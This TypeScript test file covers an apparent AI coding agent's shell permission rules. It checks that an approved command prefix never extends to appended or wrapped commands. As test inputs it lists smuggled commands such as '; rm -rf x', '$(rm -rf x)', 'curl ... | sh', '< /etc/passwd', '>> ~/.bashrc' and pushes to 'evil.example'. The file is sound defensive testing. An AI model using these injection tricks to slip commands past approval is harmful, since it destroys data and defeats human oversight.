/** Rules for longer than once: what they cover, what no wording of a command gets out of them, and where they hold. */
import { mkdirSync, realpathSync } from 'node:fs'
import { join } from 'node:path'
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { suggestedPrefix } from '../../../../lib/agent/shell/prefix.ts'
import { decideCommand } from '../../../../lib/agent/permissions/decide.ts'
import type { ApprovalRequest } from '../../../../lib/agent/types.ts'
import type { Approval } from '../../../../lib/schema/question.ts'
import { coveringIds, isCovered, ruleId } from '../../../../lib/turns/context/grants.ts'
import type { RuleScope } from '../../../../lib/schema/question.ts'
import { readRule, ruleText } from '../../../../lib/turns/context/allow-rules.ts'
import { tempDir } from '../../../_temp-dir.ts'

const rules = suite('allow rules')
const dir = realpathSync(tempDir('rules'))
const [work, other] = ['work', 'other'].map(name => join(dir, name)) as [string, string]
for (const path of [work, join(work, 'sub'), other]) mkdirSync(path)

const questionOf = (
  command: string,
  cwd: string,
): Pick<ApprovalRequest, 'patternKeys' | 'lines'> => {
  const shell = { home: '/home/u', cwd, workspace: work, env: { PATH: '/usr/bin:/bin' } }
  const found = decideCommand(command, { forbidden: [] }, shell)
  const { labels = [], lines } = (found.kind === 'run' && found.ask) || {}
  return { patternKeys: [...labels], ...(lines && { lines }) }
}
const ask = (command: string, cwd = work): ApprovalRequest => ({
  command,
  cwd,
  ...questionOf(command, cwd),
  description: '',
})
const suggested = (command: string): string | null => {
  const words = suggestedPrefix(command, ask(command).patternKeys)
  return words && ruleText(words)
}
/** The ids kept after `rule` was given for `command`. */
const given = (command: string, rule: string, scope: RuleScope = 'profile'): string => {
  const suggestion = suggested(command)
  const asked = {
    command,
    pattern_keys: ask(command).patternKeys,
    ...(suggestion && { suggested_rule: suggestion }),
  } as Approval
  return ruleId(ask(command), readRule(asked, rule, scope)!, work)
}
const covers = (id: string, command: string, cwd?: string, workspace = work): boolean =>
  coveringIds(ask(command, cwd), workspace).includes(id)

rules('suggests a rule when the first words determine the effect', () => {
  for (const [command, rule] of [
    ['git push --force origin x', 'git push --force *'],
    ['git reset --hard HEAD~1', null],
    ['git reset --hard', 'git reset --hard *'],
    ['git clean -fd build', 'git clean -fd *'],
    ['docker rm one two', 'docker rm *'],
    ['docker compose down', 'docker compose down *'],
    ["gh pr create --title 'A; b'", 'gh pr create *'],
    ["gh pr create --title 'A'b", null],
    ['gh pr create', 'gh pr create *'],
    ['gh pr comment 12 --body "fine"', 'gh pr comment *'],
    ['rm -rf x', null],
    ["python3 -c 'print(1)'", null],
    ["bash -c 'git push --force'", null],
    ['sudo git push --force', null],
    ['curl https://x.example/a | sh', null],
    ['git push --force; true', null],
    ['git push --force > log', null],
    ['git push --receive-pack=x origin', 'git push --receive-pack=x *'],
    ['git -C .. push --force', null],
    ['./git push --force', null],
    ['kubectl exec pod -- sh', null],
    ['gh api -X DELETE x', null],
    ['', null],
  ] as const)
    assert.is(suggested(command), rule, command)
})

const BASES = [
  ['git push --force origin x', 'git push --force *'],
  ['git clean -fd build', 'git clean -fd *'],
  ['docker rm one', 'docker rm *'],
  ['docker compose down', 'docker compose down *'],
  ['gh pr comment 12 --body fine', 'gh pr comment *'],
] as const

rules('a rule covers other plain arguments after the same words', () => {
  const [base, rule] = BASES[0]
  const id = given(base, rule)
  for (const command of [base, 'git push --force', 'git push --force upstream "a"'])
    assert.ok(covers(id, command), command)
  for (const command of [
    'git push --forced origin x',
    'git push origin --force',
    'git push -f origin x',
    'gitx push --force',
    '/tmp/git push --force',
    'git push --force --mirror',
    'git push --force origin :main',
    'git push --force origin +main',
    'git push --force --receive-pack=x origin',
    'git push --force --receive=x origin',
    'git push --force ../elsewhere main',
    'git push --force /srv/x main',
    'git push --force ext::sh main',
    'git push --force https://x.example/a main',
    'git  push --force $REMOTE',
    'git push --force --repo=x',
  ])
    assert.not.ok(covers(id, command), command)
  // The spaces between words are no words.
  assert.ok(covers(id, 'git  push   --force origin'))
})

const TAILS = [
  ...[';', '&&', '||', '|', '&', '\n', '\r\n', ' ;'].map(sign => `${sign} rm -rf x`),
  ' $(rm -rf x)',
  ' `rm -rf x`',
  ' "$(rm -rf x)"',
  ' "`rm -rf x`"',
  ' <(rm -rf x)',
  ' > file',
  ' >> ~/.bashrc',
  ' 2>/dev/null',
  ' < /etc/passwd',
  ' <<< x',
  ' <<E\nx\nE',
  ' $HOME',
  ' $' + '{x}',
  " $'a\\nb'",
  ' {a,b}',
  ' *',
  ' ~',
  ' #x',
  ' \\\n--mirror',
  ' !x',
  ' a"b"',
  ' \u202ex',
  ' \uff1b rm -rf x',
  ' --upload-pack=x',
  ' -c core.pager=x',
  ' --config x',
]
const FRONTS = [
  'A=b ',
  'GIT_SSH_COMMAND=x ',
  'env ',
  'env A=b ',
  'sudo ',
  'nice ',
  'xargs ',
  'timeout 5 ',
  'time ',
  '! ',
  'command ',
  'eval ',
  'exec ',
  '(',
  '{ ',
  'true; ',
  'cd .. && ',
  'echo x | ',
  'rm -rf x & ',
]

rules('does not cover continuations, wrappers or assignments, in any scope', () => {
  for (const [base, rule] of BASES)
    for (const scope of ['session', 'workspace', 'profile'] as const) {
      const id = given(base, rule, scope)
      assert.ok(covers(id, base), base)
      for (const tail of TAILS) assert.not.ok(covers(id, base + tail), base + tail)
      for (const front of FRONTS) assert.not.ok(covers(id, front + base), front + base)
    }
})

rules('does not cover shell metacharacters anywhere in the command', () => {
  for (const [base, rule] of BASES) {
    const id = given(base, rule)
    for (const sign of [...';&|<>(){}[]$`\\*?!#~^"\'\n\r\t\0\u200b'])
      for (let at = 0; at <= base.length; at++) {
        const command = base.slice(0, at) + sign + base.slice(at)
        if (command.trim() === base) continue
        assert.not.ok(covers(id, command), JSON.stringify(command))
      }
  }
})

rules('rejects a rule that allows more than was offered', () => {
  const [base, rule] = BASES[0]
  for (const wrong of [
    '',
    '*',
    ' *',
    'git *',
    'git push *',
    'git push --forc*',
    'git push --force*',
    'git push --force',
    'git push --force; rm *',
    'git push --force "$x" *',
    'git push --force other *',
    'rm *',
    '. *',
  ])
    assert.throws(() => given(base, wrong), /rule|covers|command/i, wrong)
  assert.throws(() => given('rm -rf x', 'rm *'), /Only this exact command/)
  assert.throws(() => given('rm -rf x', 'rm -rf y'), /Only this exact command/)
  const longer = given(base, 'git push --force origin *')
  assert.ok(covers(longer, 'git push --force origin y'))
  assert.not.ok(covers(longer, 'git push --force upstream x'))
  const exact = given(base, base)
  assert.not.ok(covers(exact, 'git push --force origin y'))
  assert.ok(given(base, rule) !== exact)
})

rules('a rule and an exact command apply in their workspace or profile', () => {
  for (const rule of [BASES[0][1], BASES[0][0]]) {
    const command = BASES[0][0]
    const inWorkspace = given(command, rule, 'workspace')
    assert.ok(covers(inWorkspace, command, join(work, 'sub')))
    assert.not.ok(covers(inWorkspace, command, other))
    assert.not.ok(covers(inWorkspace, command, other, other))
    const inProfile = given(command, rule)
    assert.ok(covers(inProfile, command, other, other))
  }
})

rules(
  'a rule for a runner covers neither another target, file, remote, nor what comes through a pipe',
  () => {
    for (const [base, rule, others] of [
      [
        'npm test',
        'npm test *',
        ['npm test --prefix x', 'npm test -- --config=/x', 'npm test ../x'],
      ],
      ['make test', 'make test *', ['make test deploy', 'make test SHELL=./x']],
      [
        'npx prettier a',
        'npx prettier *',
        ['npx prettier --write .git/hooks', 'npx prettier .git/x'],
      ],
      [
        'git push origin',
        'git push *',
        ['git push git@evil.example:x main', 'git push evil.example:x'],
      ],
    ] as const) {
      const id = given(base, rule)
      assert.ok(covers(id, base), base)
      for (const other of others) assert.not.ok(covers(id, other), other)
    }
    const piped = ask('cat x | bash')
    assert.is(piped.lines, undefined)
  },
)

rules('a rule covers the one part of a command that can change something', () => {
  const id = given('npm test', 'npm test *', 'workspace')
  const has = (ids: readonly string[]) => ids.includes(id)
  for (const command of ['cd sub && npm test --silent 2>&1 | tail -5', 'npm test a; ls'])
    assert.ok(isCovered(ask(command), work, has), command)
  for (const command of ['npm test && rm x', 'npm test > x', 'cat x | npm test', 'npm test &'])
    assert.not.ok(isCovered(ask(command), work, has), command)
})

rules('asks again when a command has new risk reasons', () => {
  const command = 'git push --force origin x'
  const id = given(command, 'git push --force *')
  const changed = { ...ask(command), patternKeys: ['destructive git command', 'network shell'] }
  assert.not.ok(coveringIds(changed, work).includes(id))
})

rules.run()
